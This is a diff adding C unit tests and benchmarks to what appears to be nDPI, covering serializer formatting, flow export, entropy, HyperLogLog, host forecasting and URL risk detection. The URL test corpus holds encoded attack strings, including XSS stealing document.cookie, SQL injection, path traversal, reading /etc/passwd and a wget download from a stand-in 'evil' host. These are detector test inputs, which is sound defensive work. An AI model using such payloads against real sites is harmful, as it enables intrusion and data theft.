@@ -47,13 +47,16 @@
 #include <sys/socket.h>
 #include <assert.h>
 #include <math.h>
+#include <float.h>
 #include <sys/stat.h>
 #include <fcntl.h>
 #include <sys/mman.h>
 #include <libgen.h>
+#include <sys/time.h>
 
 #include "ndpi_config.h"
 #include "ndpi_api.h"
+#include "../../src/lib/third_party/include/ndpi_md5.h"
 
 #ifdef HAVE_JSON_H
 #include "json.h" /* JSON-C */
@@ -61,6 +64,7 @@
 
 static struct ndpi_detection_module_struct *ndpi_info_mod = NULL;
 static int verbose = 0;
+static int benchmark = 0;
 
 /* *********************************************** */
 
@@ -228,6 +232,1568 @@ int serializerUnitTest() {
 
 /* *********************************************** */
 
+/* Reference (byte by byte) JSON escape the serializer output must match */
+static int refJsonEscape(const char *src, int src_len, char *dst) {
+  int i, j = 0;
+
+  dst[j++] = '"';
+
+  for(i = 0; i < src_len; i++) {
+    char c = src[i];
+
+    switch(c) {
+    case '\\': case '"': case '/': dst[j++] = '\\'; dst[j++] = c; break;
+    case '\b': dst[j++] = '\\'; dst[j++] = 'b'; break;
+    case '\t': dst[j++] = '\\'; dst[j++] = 't'; break;
+    case '\n': dst[j++] = '\\'; dst[j++] = 'n'; break;
+    case '\f': dst[j++] = '\\'; dst[j++] = 'f'; break;
+    case '\r': dst[j++] = '\\'; dst[j++] = 'r'; break;
+    default: if(c >= ' ') dst[j++] = c;
+    }
+  }
+
+  dst[j++] = '"';
+  dst[j] = '\0';
+
+  return j;
+}
+
+/* Serialize a single key and compare the JSON record with the expected value */
+static int checkJsonValue(ndpi_serializer *serializer, const char *expected_value) {
+  char expected[1024];
+  u_int32_t len;
+  char *buf = ndpi_serializer_get_buffer(serializer, &len);
+
+  snprintf(expected, sizeof(expected), "{\"k\":%s}", expected_value);
+
+  if((len != strlen(expected)) || (memcmp(buf, expected, len) != 0)) {
+    printf("%s: ERROR got %.*s expected %s\n", __FUNCTION__, (int)len, buf, expected);
+    return -1;
+  }
+
+  return 0;
+}
+
+/* *********************************************** */
+
+int serializerFormatUnitTest() {
+  const char *float_formats[] = { "%f", "%.0f", "%.1f", "%.2f", "%.3f", "%.9f", "%g", "%.2e" };
+  const float float_values[] = { 0, -0.0f, 0.5f, 1.5f, 2.5f, -2.5f, 0.125f, 0.0005f, 1.005f,
+				 -0.0001f, 99.995f, 123456.789f, 1e10f, 3.4e38f / 1e30f, 1e-10f };
+  const int64_t int_values[] = { 0, 1, -1, 9, 10, 99, 100, 4294967295LL, 4294967296LL,
+				 2147483647LL, -2147483648LL, 999999999999LL,
+				 9223372036854775807LL, -9223372036854775807LL - 1 };
+  ndpi_serializer serializer;
+  char expected[1024], str[512];
+  u_int32_t i, j, seed = 1;
+
+  assert(ndpi_init_serializer(&serializer, ndpi_serialization_format_json) != -1);
+
+  for(i = 0; i < sizeof(int_values) / sizeof(int_values[0]); i++) {
+    int64_t v = int_values[i];
+
+    ndpi_reset_serializer(&serializer);
+    ndpi_serialize_string_uint32(&serializer, "k", (u_int32_t)v);
+    snprintf(expected, sizeof(expected), "%u", (u_int32_t)v);
+    if(checkJsonValue(&serializer, expected) != 0) return -1;
+
+    ndpi_reset_serializer(&serializer);
+    ndpi_serialize_string_int32(&serializer, "k", (int32_t)v);
+    snprintf(expected, sizeof(expected), "%d", (int32_t)v);
+    if(checkJsonValue(&serializer, expected) != 0) return -1;
+
+    ndpi_reset_serializer(&serializer);
+    ndpi_serialize_string_uint64(&serializer, "k", (u_int64_t)v);
+    snprintf(expected, sizeof(expected), "%llu", (unsigned long long)v);
+    if(checkJsonValue(&serializer, expected) != 0) return -1;
+
+    ndpi_reset_serializer(&serializer);
+    ndpi_serialize_string_int64(&serializer, "k", v);
+    snprintf(expected, sizeof(expected), "%lld", (long long)v);
+    if(checkJsonValue(&serializer, expected) != 0) return -1;
+  }
+
+  for(i = 0; i < sizeof(float_formats) / sizeof(float_formats[0]); i++) {
+    for(j = 0; j < sizeof(float_values) / sizeof(float_values[0]) + 2000; j++) {
+      float f;
+
+      if(j < sizeof(float_values) / sizeof(float_values[0]))
+	f = float_values[j];
+      else
+	seed = seed * 1103515245 + 12345, f = (float)((int32_t)seed % 2000000) / 1000.0f;
+
+      ndpi_reset_serializer(&serializer);
+      ndpi_serialize_string_float(&serializer, "k", f, float_formats[i]);
+      snprintf(expected, sizeof(expected), float_formats[i], f);
+      if(checkJsonValue(&serializer, expected) != 0) return -1;
+    }
+  }
+
+  /* Strings of all lengths mixing clean runs, escaped and dropped bytes */
+  for(i = 0; i < 200; i++) {
+    for(j = 0; j < i; j++) {
+      seed = seed * 1103515245 + 12345;
+      str[j] = ((seed >> 16) % 8) ? 'a' + (j % 26) : (char)(((seed >> 8) & 0xFF) | 1);
+    }
+    str[i] = '\0';
+
+    ndpi_reset_serializer(&serializer);
+    ndpi_serialize_string_string(&serializer, "k", str);
+    refJsonEscape(str, i, expected);
+    if(checkJsonValue(&serializer, expected) != 0) return -1;
+  }
+
+  ndpi_term_serializer(&serializer);
+
+  printf("%s                OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+struct export_sink {
+  u_int8_t *data;
+  u_int32_t size, used;
+};
+
+static int export_sink_cb(const u_int8_t *data, u_int32_t data_len, void *user_data) {
+  struct export_sink *sink = (struct export_sink *)user_data;
+
+  if(sink->used + data_len > sink->size) {
+    u_int32_t new_size = (sink->used + data_len) * 2;
+    u_int8_t *d = realloc(sink->data, new_size);
+
+    if(d == NULL) return -1;
+    sink->data = d, sink->size = new_size;
+  }
+
+  memcpy(&sink->data[sink->used], data, data_len);
+  sink->used += data_len;
+
+  return 0;
+}
+
+/* *********************************************** */
+
+static void fillFlowRecord(ndpi_serializer *serializer, u_int32_t i) {
+  ndpi_serialize_string_string(serializer, "src_ip", "192.168.1.1");
+  ndpi_serialize_string_string(serializer, "dest_ip", "10.0.0.1");
+  ndpi_serialize_string_uint32(serializer, "src_port", 1024 + (i % 60000));
+  ndpi_serialize_string_uint32(serializer, "dst_port", 443);
+  ndpi_serialize_string_uint64(serializer, "bytes", (u_int64_t)i * 1500);
+  ndpi_serialize_string_string(serializer, "host", "www.ntop.org");
+}
+
+/* *********************************************** */
+
+int flowExporterUnitTest() {
+  ndpi_flow_exporter exporter;
+  ndpi_flow_record_reader reader;
+  ndpi_deserializer deserializer;
+  struct export_sink sink = { NULL, 0, 0 };
+  u_int32_t i, num_records = 5000, num_read = 0;
+  int rc;
+
+  /* A small batch forces several size based flushes */
+  assert(ndpi_init_flow_exporter(&exporter, -1, 16384, 0) == 0);
+  ndpi_flow_exporter_set_flush_cb(&exporter, export_sink_cb, &sink);
+
+  for(i = 0; i < num_records; i++) {
+    fillFlowRecord(ndpi_flow_exporter_begin(&exporter), i);
+    assert(ndpi_flow_exporter_commit(&exporter, i) == 0);
+  }
+
+  ndpi_term_flow_exporter(&exporter);
+  assert(exporter.num_records == num_records);
+  assert(exporter.num_flushes > 1);
+  assert(exporter.num_bytes == sink.used);
+
+  assert(ndpi_flow_record_reader_init_buf(&reader, sink.data, sink.used) == 0);
+
+  while((rc = ndpi_flow_record_reader_next(&reader, &deserializer)) == 1) {
+    ndpi_serialization_type kt, et;
+    ndpi_string ks;
+    u_int32_t v32, found = 0;
+
+    assert(ndpi_deserialize_get_format(&deserializer) == ndpi_serialization_format_tlv);
+
+    while((et = ndpi_deserialize_get_item_type(&deserializer, &kt)) != ndpi_serialization_unknown) {
+      if(et == ndpi_serialization_end_of_record) {
+	ndpi_deserialize_next(&deserializer);
+	continue;
+      }
+
+      ndpi_deserialize_key_string(&deserializer, &ks);
+
+      if((ks.str_len == 8) && (strncmp(ks.str, "src_port", 8) == 0)) {
+	assert(ndpi_deserialize_value_uint32(&deserializer, &v32) != -1);
+	assert(v32 == 1024 + (num_read % 60000));
+	found = 1;
+      }
+
+      ndpi_deserialize_next(&deserializer);
+    }
+
+    assert(found);
+    num_read++;
+  }
+
+  assert(rc == 0);
+  assert(num_read == num_records);
+
+  /* A truncated stream is detected */
+  assert(ndpi_flow_record_reader_init_buf(&reader, sink.data, sink.used - 3) == 0);
+  while((rc = ndpi_flow_record_reader_next(&reader, &deserializer)) == 1) ;
+  assert(rc < 0);
+
+  free(sink.data);
+
+  printf("%s                    OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+static u_int64_t usec_now() {
+  struct timeval tv;
+
+  gettimeofday(&tv, NULL);
+  return((u_int64_t)tv.tv_sec * 1000000 + tv.tv_usec);
+}
+
+void serializerBenchmark() {
+  ndpi_flow_exporter exporter;
+  ndpi_serializer serializer;
+  struct export_sink sink = { NULL, 0, 0 };
+  u_int32_t i, num_records = 1000000;
+  u_int64_t t0, t1, t2, t3;
+
+  /* Baseline: one serializer per record */
+  t0 = usec_now();
+  for(i = 0; i < num_records; i++) {
+    ndpi_init_serializer(&serializer, ndpi_serialization_format_tlv);
+    fillFlowRecord(&serializer, i);
+    ndpi_serialize_end_of_record(&serializer);
+    ndpi_term_serializer(&serializer);
+  }
+  t1 = usec_now();
+
+  ndpi_init_flow_exporter(&exporter, -1, 0, 0);
+  ndpi_flow_exporter_set_flush_cb(&exporter, export_sink_cb, &sink);
+  for(i = 0; i < num_records; i++) {
+    fillFlowRecord(ndpi_flow_exporter_begin(&exporter), i);
+    ndpi_flow_exporter_commit(&exporter, 0);
+    if(sink.used > (64 * 1024 * 1024)) sink.used = 0;
+  }
+  ndpi_term_flow_exporter(&exporter);
+  t2 = usec_now();
+
+  free(sink.data);
+
+  /* JSON records: number formatting and string escaping */
+  ndpi_init_serializer(&serializer, ndpi_serialization_format_json);
+  for(i = 0; i < num_records; i++) {
+    ndpi_reset_serializer(&serializer);
+    fillFlowRecord(&serializer, i);
+    ndpi_serialize_string_float(&serializer, "score", (float)i / 7, "%.3f");
+    ndpi_serialize_string_int64(&serializer, "delta", -(int64_t)i * 1000003);
+  }
+  ndpi_term_serializer(&serializer);
+  t3 = usec_now();
+
+  printf("%s: init/term per record %.0f rec/sec, exporter %.0f rec/sec, JSON %.0f rec/sec\n", __FUNCTION__,
+	 (double)num_records * 1000000 / (double)((t1 - t0) ? (t1 - t0) : 1),
+	 (double)num_records * 1000000 / (double)((t2 - t1) ? (t2 - t1) : 1),
+	 (double)num_records * 1000000 / (double)((t3 - t2) ? (t3 - t2) : 1));
+}
+
+/* *********************************************** */
+
+static void fillPayload(u_int8_t *data, u_int32_t len, u_int32_t seed, int skewed) {
+  u_int32_t i;
+
+  for(i = 0; i < len; i++) {
+    seed = seed * 1103515245 + 12345;
+    /* Skewed payloads repeat the same few values, as in padding or text */
+    data[i] = skewed ? ((seed >> 16) % 8) * ((seed >> 28) ? 1 : 31) : (u_int8_t)(seed >> 16);
+  }
+}
+
+static float naiveEntropy(const u_int32_t byte_count[256], u_int32_t num_bytes) {
+  float sum = 0.0;
+  int i;
+
+  for(i = 0; i < 256; i++) {
+    float tmp = (float)byte_count[i] / (float)num_bytes;
+
+    if(tmp > FLT_EPSILON)
+      sum -= tmp * logf(tmp);
+  }
+
+  return(sum / logf(2.0));
+}
+
+int byteDistUnitTest() {
+  static const u_int32_t lens[] = { 0, 1, 15, 16, 17, 255, 256, 1000, 1500, 65536, 262140, 300000 };
+  u_int8_t *data = malloc(300000);
+  u_int32_t l, i, skewed;
+
+  assert(data);
+
+  for(skewed = 0; skewed < 2; skewed++) {
+    for(l = 0; l < sizeof(lens) / sizeof(lens[0]); l++) {
+      u_int32_t len = lens[l], hist[256], ref_hist[256], num_bytes = 0, ref_num_bytes = 0, off;
+      u_int64_t sum, sum_sq, ref_sum = 0, ref_sum_sq = 0;
+      double mean = 0, m2 = 0, ref_mean = 0, ref_m2 = 0;
+
+      fillPayload(data, len, len + skewed, skewed);
+
+      memset(hist, 0, sizeof(hist));
+      memset(ref_hist, 0, sizeof(ref_hist));
+
+      ndpi_byte_histogram_update(hist, data, len);
+      ndpi_byte_sum(data, len, &sum, &sum_sq);
+
+      for(i = 0; i < len; i++) {
+	double delta;
+
+	ref_hist[data[i]]++;
+	ref_sum += data[i], ref_sum_sq += data[i] * data[i];
+
+	/* Welford, one byte at a time */
+	ref_num_bytes++;
+	delta = (double)data[i] - ref_mean;
+	ref_mean += delta / ref_num_bytes;
+	ref_m2 += delta * ((double)data[i] - ref_mean);
+      }
+
+      assert(memcmp(hist, ref_hist, sizeof(hist)) == 0);
+      assert(sum == ref_sum && sum_sq == ref_sum_sq);
+
+      /* Merged per packet sized chunk */
+      for(off = 0; off < len; off += 1460)
+	ndpi_byte_dist_update(&num_bytes, &mean, &m2, &data[off], ndpi_min(1460, len - off));
+
+      assert(num_bytes == len);
+      assert(fabs(mean - ref_mean) <= 1e-6 * (1 + ref_mean));
+      assert(fabs(m2 - ref_m2) <= 1e-6 * (1 + ref_m2));
+
+      if(len > 0)
+	assert(fabsf(ndpi_byte_count_entropy(hist, len) - naiveEntropy(ref_hist, len)) < 1e-3);
+      else
+	assert(ndpi_byte_count_entropy(hist, len) == 0);
+    }
+  }
+
+  free(data);
+
+  printf("%s                        OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+void byteDistBenchmark() {
+  u_int32_t len = 1460, num_packets = 200000, i, j, hist[256], num_bytes = 0;
+  u_int8_t *data = malloc(len);
+  double mean = 0, m2 = 0, mb;
+  volatile float entropy = 0;
+  u_int64_t t0, t1, t2, t3, t4;
+
+  assert(data);
+  fillPayload(data, len, 1, 1);
+  memset(hist, 0, sizeof(hist));
+
+  t0 = usec_now();
+  for(i = 0; i < num_packets; i++) {
+    for(j = 0; j < len; j++) {
+      double delta;
+
+      hist[data[j]]++;
+      num_bytes++;
+      delta = (double)data[j] - mean;
+      mean += delta / num_bytes;
+      m2 += delta * ((double)data[j] - mean);
+    }
+  }
+  t1 = usec_now();
+
+  num_bytes = 0, mean = m2 = 0;
+  for(i = 0; i < num_packets; i++) {
+    ndpi_byte_histogram_update(hist, data, len);
+    ndpi_byte_dist_update(&num_bytes, &mean, &m2, data, len);
+  }
+  t2 = usec_now();
+
+  for(i = 0; i < num_packets; i++) entropy += naiveEntropy(hist, len * (i + 1));
+  t3 = usec_now();
+  for(i = 0; i < num_packets; i++) entropy += ndpi_byte_count_entropy(hist, len * (i + 1));
+  t4 = usec_now();
+
+  mb = (double)len * num_packets / (1024 * 1024);
+
+  printf("%s: per byte %.0f MB/sec, batched %.0f MB/sec; entropy logf %.0f/sec, table %.0f/sec\n", __FUNCTION__,
+	 mb * 1000000 / (double)((t1 - t0) ? (t1 - t0) : 1),
+	 mb * 1000000 / (double)((t2 - t1) ? (t2 - t1) : 1),
+	 (double)num_packets * 1000000 / (double)((t3 - t2) ? (t3 - t2) : 1),
+	 (double)num_packets * 1000000 / (double)((t4 - t3) ? (t4 - t3) : 1));
+
+  free(data);
+}
+
+/* *********************************************** */
+
+#ifdef HAVE_PCRE
+#define RCE_RISK NDPI_URL_POSSIBLE_RCE_INJECTION
+#else
+#define RCE_RISK NDPI_NO_RISK
+#endif
+
+static const struct {
+  const char *url;
+  ndpi_risk_enum risk;
+} url_corpus[] = {
+  { "/index.html", NDPI_NO_RISK },
+  { "/img/logo.png?v=3", NDPI_NO_RISK },
+  { "/watch?v=dQw4w9WgXcQ&t=42s", NDPI_NO_RISK },
+  { "/search?q=nDPI+deep+packet+inspection&hl=en&source=hp", NDPI_NO_RISK },
+  { "/login?next=%2Faccount%2Fsettings&lang=it", NDPI_NO_RISK },
+  { "/api?callback=jQuery1124_1600000000&_=1600000000123", NDPI_NO_RISK },
+  { "/track?utm_source=news&utm_medium=email&utm_campaign=spring", NDPI_NO_RISK },
+  { "/api/v1/items?id=12345&sort=asc&lang=en", NDPI_NO_RISK },
+  { "/dv/vulnerabilities/xss_r/?name=%3Cscript%3Econsole.log%28%27JUL2D3WXHEGWRAFJE2PI7OS71Z4Z8RFUHXGNFLUFYVP6M3OL55%27%29%3Bconsole.log%28document.cookie%29%3B%3C%2Fscript%3E", NDPI_URL_POSSIBLE_XSS },
+  { "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+null%2C+table_name+from+information_schema.tables%23&Submit=Submit", NDPI_URL_POSSIBLE_SQL_INJECTION },
+  { "/msadc/..%255c../..%255c../winnt/system32/cmd.exe", NDPI_HTTP_SUSPICIOUS_URL },
+  { "/upload?file=foo.jpg%3Buname+-a", RCE_RISK },                 /* Unix command injection */
+  { "/ping?host=127.0.0.1%7Ccat+%2Fetc%2Fpasswd", RCE_RISK },      /* Unix command injection */
+  { "/x?a=%24%28whoami%29", RCE_RISK },                            /* Unix shell expression */
+  { "/x?a=wget+http%3A%2F%2Fevil%2Fx", RCE_RISK },                 /* Unix direct RCE */
+  { "/q?s=for+%25a+in(x)+do", RCE_RISK },                          /* Windows FOR command */
+  { "/x?a=%24%7BIFS%7D", RCE_RISK },                               /* Unix shell snippet */
+  { "/x?a=Write-Host+hi", RCE_RISK }                               /* PowerShell cmdlet */
+};
+
+#define URL_CORPUS_LEN (sizeof(url_corpus) / sizeof(url_corpus[0]))
+
+int urlValidationUnitTest() {
+  struct ndpi_url_check_stats stats;
+  u_int32_t i;
+
+  ndpi_reset_url_check_stats();
+  ndpi_url_check_profiling(1);
+
+  for(i = 0; i < URL_CORPUS_LEN; i++) {
+    char url[512];
+    ndpi_risk_enum risk;
+
+    /* ndpi_validate_url() can modify the URL */
+    snprintf(url, sizeof(url), "%s", url_corpus[i].url);
+    risk = ndpi_validate_url(url);
+
+    if(risk != url_corpus[i].risk) {
+      printf("%s: %s [expected %u][got %u]\n", __FUNCTION__, url_corpus[i].url, url_corpus[i].risk, risk);
+      return(-1);
+    }
+  }
+
+  ndpi_url_check_profiling(0);
+  ndpi_get_url_check_stats(&stats);
+
+  assert(stats.num_urls == URL_CORPUS_LEN);
+  assert(stats.xss.calls == stats.num_values);
+  assert(stats.xss.matches == 1 && stats.sqli.matches == 1);
+#ifdef HAVE_PCRE
+  assert(stats.rce.matches == 7);
+  /* Benign values never reach all the regexes */
+  assert(stats.rce_regex_skipped > 0);
+  /* etc/passwd, ${IFS} and Write-Host */
+  assert(stats.rce_command_matches == 3);
+#endif
+
+  ndpi_reset_url_check_stats();
+
+  printf("%s                   OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+void urlValidationBenchmark() {
+  struct ndpi_url_check_stats stats;
+  u_int32_t i, j, num_rounds = 20000;
+  u_int64_t t0, t1;
+
+  ndpi_reset_url_check_stats();
+  ndpi_url_check_profiling(1);
+
+  t0 = usec_now();
+  for(i = 0; i < num_rounds; i++) {
+    for(j = 0; j < URL_CORPUS_LEN; j++) {
+      char url[512];
+
+      snprintf(url, sizeof(url), "%s", url_corpus[j].url);
+      ndpi_validate_url(url);
+    }
+  }
+  t1 = usec_now();
+
+  ndpi_url_check_profiling(0);
+  ndpi_get_url_check_stats(&stats);
+
+  printf("%s: %.0f URL/sec [ns/call xss: %.0f][sqli: %.0f][rce: %.0f][regex: %.0f][regex skipped: %.1f%%]\n",
+	 __FUNCTION__,
+	 (double)num_rounds * URL_CORPUS_LEN * 1000000 / (double)((t1 - t0) ? (t1 - t0) : 1),
+	 stats.xss.calls ? (double)stats.xss.nsec / stats.xss.calls : 0,
+	 stats.sqli.calls ? (double)stats.sqli.nsec / stats.sqli.calls : 0,
+	 stats.rce.calls ? (double)stats.rce.nsec / stats.rce.calls : 0,
+	 stats.rce_regex.calls ? (double)stats.rce_regex.nsec / stats.rce_regex.calls : 0,
+	 (stats.rce_regex.calls + stats.rce_regex_skipped) ?
+	 (100. * stats.rce_regex_skipped) / (stats.rce_regex.calls + stats.rce_regex_skipped) : 0);
+
+  ndpi_reset_url_check_stats();
+}
+
+/* *********************************************** */
+
+/* Distinct values as in a (src ip, dst port) like key space */
+static void hllAddRange(struct ndpi_hll *hll, u_int32_t from, u_int32_t to) {
+  u_int32_t i;
+
+  for(i = from; i < to; i++)
+    ndpi_hll_add_number(hll, i * 2654435761U);
+}
+
+static int hllWithinBounds(struct ndpi_hll *hll, u_int32_t cardinality) {
+  /* Four standard errors: a false positive is ~1/15000 */
+  double error = 4 * 1.04 / sqrt((double)(1 << hll->bits));
+  double estimate = ndpi_hll_count(hll);
+
+  if(fabs(estimate - cardinality) > (error * cardinality + 1)) {
+    printf("%s: [bits %u][cardinality %u][estimate %.1f]\n", __FUNCTION__, hll->bits, cardinality, estimate);
+    return(0);
+  }
+
+  return(1);
+}
+
+int hllUnitTest() {
+  static const u_int32_t cardinalities[] = { 0, 1, 10, 100, 1000, 10000, 100000, 1000000 };
+  static const u_int8_t bits[] = { 8, 10, 12, 14 };
+  u_int32_t b, c;
+
+  /* Accuracy, sparse and dense */
+  for(b = 0; b < sizeof(bits) / sizeof(bits[0]); b++) {
+    for(c = 0; c < sizeof(cardinalities) / sizeof(cardinalities[0]); c++) {
+      struct ndpi_hll hll;
+
+      assert(ndpi_hll_init(&hll, bits[b]) == 0);
+      hllAddRange(&hll, 0, cardinalities[c]);
+      /* Duplicates do not change the estimate */
+      hllAddRange(&hll, 0, cardinalities[c] / 2);
+
+      if(!hllWithinBounds(&hll, cardinalities[c])) return(-1);
+      ndpi_hll_destroy(&hll);
+    }
+  }
+
+  /* Sparse to dense promotion gives the same registers */
+  {
+    struct ndpi_hll sparse, dense;
+    u_int32_t i;
+
+    assert(ndpi_hll_init(&sparse, 12) == 0 && ndpi_hll_init(&dense, 12) == 0);
+    hllAddRange(&sparse, 0, 100);
+    assert(sparse.registers == NULL && sparse.sparse_len > 0);
+
+    hllAddRange(&dense, 0, 100000);
+    assert(dense.registers != NULL && dense.sparse == NULL);
+
+    /* Reset keeps the dense registers, zeroed */
+    ndpi_hll_reset(&dense);
+    assert(dense.registers != NULL && ndpi_hll_count(&dense) == 0);
+    hllAddRange(&dense, 0, 100);
+    assert(ndpi_hll_count(&dense) == ndpi_hll_count(&sparse));
+
+    /* Force the promotion and compare register by register */
+    hllAddRange(&dense, 1000000, 1100000);
+    hllAddRange(&sparse, 1000000, 1100000);
+    assert(sparse.registers != NULL);
+    for(i = 0; i < sparse.size; i++)
+      assert(sparse.registers[i] == dense.registers[i]);
+
+    ndpi_hll_destroy(&sparse), ndpi_hll_destroy(&dense);
+  }
+
+  /* Merge: the union is the same as adding everything to a single estimator */
+  for(c = 0; c < 4; c++) {
+    struct ndpi_hll a, b, all;
+    /* sparse+sparse, sparse+dense, dense+sparse, dense+dense */
+    u_int32_t len_a = (c & 2) ? 50000 : 50, len_b = (c & 1) ? 50000 : 50;
+
+    assert(ndpi_hll_init(&a, 12) == 0 && ndpi_hll_init(&b, 12) == 0 && ndpi_hll_init(&all, 12) == 0);
+
+    /* Half overlapping */
+    hllAddRange(&a, 0, len_a);
+    hllAddRange(&b, len_a / 2, len_a / 2 + len_b);
+    hllAddRange(&all, 0, len_a);
+    hllAddRange(&all, len_a / 2, len_a / 2 + len_b);
+
+    assert(ndpi_hll_merge(&a, &b) == 0);
+    assert(ndpi_hll_count(&a) == ndpi_hll_count(&all));
+    if(!hllWithinBounds(&a, ndpi_max(len_a, len_a / 2 + len_b))) return(-1);
+
+    ndpi_hll_destroy(&a), ndpi_hll_destroy(&b), ndpi_hll_destroy(&all);
+  }
+
+  {
+    struct ndpi_hll a, b;
+
+    assert(ndpi_hll_init(&a, 10) == 0 && ndpi_hll_init(&b, 12) == 0);
+    assert(ndpi_hll_merge(&a, &b) != 0);
+    ndpi_hll_destroy(&a), ndpi_hll_destroy(&b);
+  }
+
+  /* TLV serialization round trip: empty, sparse and dense (multiple chunks) */
+  for(c = 0; c < 3; c++) {
+    static const u_int32_t len[] = { 0, 100, 1000000 };
+    ndpi_serializer serializer;
+    ndpi_deserializer deserializer;
+    struct ndpi_hll hll, copy;
+    ndpi_serialization_type kt;
+    u_int32_t buffer_len, v;
+    ndpi_string key;
+    char *buffer;
+
+    assert(ndpi_hll_init(&hll, (c == 2) ? 16 : 12) == 0);
+    hllAddRange(&hll, 0, len[c]);
+
+    assert(ndpi_init_serializer(&serializer, ndpi_serialization_format_tlv) != -1);
+    assert(ndpi_serialize_string_uint32(&serializer, "before", 1) == 0);
+    assert(ndpi_hll_serialize(&hll, &serializer, "hll") == 0);
+    assert(ndpi_serialize_string_uint32(&serializer, "after", 2) == 0);
+
+    buffer = ndpi_serializer_get_buffer(&serializer, &buffer_len);
+    assert(ndpi_init_deserializer_buf(&deserializer, (u_int8_t *)buffer, buffer_len) != -1);
+
+    assert(ndpi_deserialize_key_string(&deserializer, &key) == 0);
+    assert(ndpi_deserialize_next(&deserializer) == 0);
+    assert(ndpi_hll_deserialize(&copy, &deserializer) == 0);
+
+    /* Positioned after the block */
+    assert(ndpi_deserialize_get_item_type(&deserializer, &kt) != ndpi_serialization_unknown);
+    assert(ndpi_deserialize_key_string(&deserializer, &key) == 0 && key.str_len == 5);
+    assert(ndpi_deserialize_value_uint32(&deserializer, &v) == 0 && v == 2);
+
+    assert(copy.bits == hll.bits && (copy.registers == NULL) == (hll.registers == NULL));
+    assert(ndpi_hll_count(&copy) == ndpi_hll_count(&hll));
+    if(hll.registers)
+      assert(memcmp(copy.registers, hll.registers, hll.size) == 0);
+
+    ndpi_term_serializer(&serializer);
+    ndpi_hll_destroy(&hll), ndpi_hll_destroy(&copy);
+  }
+
+  /* Dense registers above the maximum rank are rejected */
+  {
+    ndpi_serializer serializer;
+    ndpi_deserializer deserializer;
+    struct ndpi_hll copy;
+    u_int32_t buffer_len;
+    char registers[16], *buffer;
+
+    memset(registers, 0xFF, sizeof(registers));
+    assert(ndpi_init_serializer(&serializer, ndpi_serialization_format_tlv) != -1);
+    assert(ndpi_serialize_start_of_block(&serializer, "hll") == 0);
+    assert(ndpi_serialize_string_uint32(&serializer, "bits", 4) == 0);
+    assert(ndpi_serialize_string_uint32(&serializer, "dense", 1) == 0);
+    assert(ndpi_serialize_string_binary(&serializer, "data", registers, sizeof(registers)) == 0);
+    assert(ndpi_serialize_end_of_block(&serializer) == 0);
+
+    buffer = ndpi_serializer_get_buffer(&serializer, &buffer_len);
+    assert(ndpi_init_deserializer_buf(&deserializer, (u_int8_t *)buffer, buffer_len) != -1);
+    assert(ndpi_hll_deserialize(&copy, &deserializer) != 0);
+
+    ndpi_term_serializer(&serializer);
+  }
+
+  printf("%s                             OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+void hllBenchmark() {
+  struct ndpi_hll a, b;
+  u_int32_t i, num_rounds = 10000;
+  volatile double estimate = 0;
+  u_int64_t t0, t1, t2, t3;
+
+  assert(ndpi_hll_init(&a, 14) == 0 && ndpi_hll_init(&b, 14) == 0);
+
+  t0 = usec_now();
+  hllAddRange(&a, 0, 1000000);
+  t1 = usec_now();
+  hllAddRange(&b, 500000, 1500000);
+
+  for(i = 0; i < num_rounds; i++) estimate += ndpi_hll_count(&a);
+  t2 = usec_now();
+  for(i = 0; i < num_rounds; i++) ndpi_hll_merge(&a, &b);
+  t3 = usec_now();
+
+  printf("%s: add %.0f/sec, count %.1f usec, merge %.1f usec [14 bits][estimate %.0f]\n", __FUNCTION__,
+	 1000000. * 1000000 / (double)((t1 - t0) ? (t1 - t0) : 1),
+	 (double)(t2 - t1) / num_rounds, (double)(t3 - t2) / num_rounds,
+	 ndpi_hll_count(&a));
+
+  ndpi_hll_destroy(&a), ndpi_hll_destroy(&b);
+}
+
+/* *********************************************** */
+
+static void hostAddr(ndpi_ip_addr_t *a, u_int32_t ip) {
+  memset(a, 0, sizeof(*a));
+  a->ipv4 = htonl(ip);
+}
+
+struct hostAnomalies {
+  u_int32_t num, last_ip;
+  ndpi_host_metric last_metric;
+};
+
+static void hostAnomalyCb(const struct ndpi_host_anomaly *anomaly, void *user_data) {
+  struct hostAnomalies *a = (struct hostAnomalies *)user_data;
+
+  a->num++, a->last_ip = ntohl(anomaly->host.ipv4), a->last_metric = anomaly->metric;
+  assert(fabs(anomaly->value - anomaly->forecast) > anomaly->confidence_band);
+}
+
+int hostAnalyticsUnitTest() {
+  ndpi_host_analytics ha;
+  struct hostAnomalies anomalies;
+  ndpi_ip_addr_t host, peer;
+  u_int32_t i, j, now = 1000;
+  u_int64_t series[16];
+  double forecast, band;
+  int des;
+
+  /* Batch forecasters are the same as ndpi_ses_add_value() / ndpi_des_add_value() */
+  for(des = 0; des < 2; des++) {
+    struct ndpi_ses_struct ses[4];
+    struct ndpi_des_struct des_s[4];
+
+    assert(ndpi_init_host_analytics(&ha, 8, 4, 10, 6) == 0);
+    ndpi_host_analytics_set_forecaster(&ha, des, 0.6, 0.3, 0.05, 3);
+    ndpi_host_analytics_tick(&ha, now);
+
+    for(j = 0; j < 4; j++) {
+      ndpi_ses_init(&ses[j], 0.6, 0.05);
+      ndpi_des_init(&des_s[j], 0.6, 0.3, 0.05);
+    }
+
+    for(i = 0; i < 100; i++) {
+      for(j = 0; j < 4; j++) {
+	u_int32_t bytes = 1000 * (j + 1) + ((i * 7919 + j * 104729) % 500);
+	double ref_forecast, ref_band;
+	int rc;
+
+	hostAddr(&host, 0x0A000001 + j);
+	ndpi_host_analytics_add_bytes(&ha, &host, bytes);
+
+	if(des)
+	  rc = ndpi_des_add_value(&des_s[j], bytes, &ref_forecast, &ref_band);
+	else
+	  rc = ndpi_ses_add_value(&ses[j], bytes, &ref_forecast, &ref_band);
+
+	assert(rc == (i > 0));
+
+	if(j == 3) {
+	  /* Close the interval and compare with the last host */
+	  now += 10;
+	  ndpi_host_analytics_tick(&ha, now);
+
+	  assert(ndpi_host_analytics_get_forecast(&ha, &host, ndpi_host_metric_bytes, &forecast, &band) == (i >= 2));
+	  assert(fabs(forecast - ref_forecast) < 1e-6 * (1 + fabs(ref_forecast)));
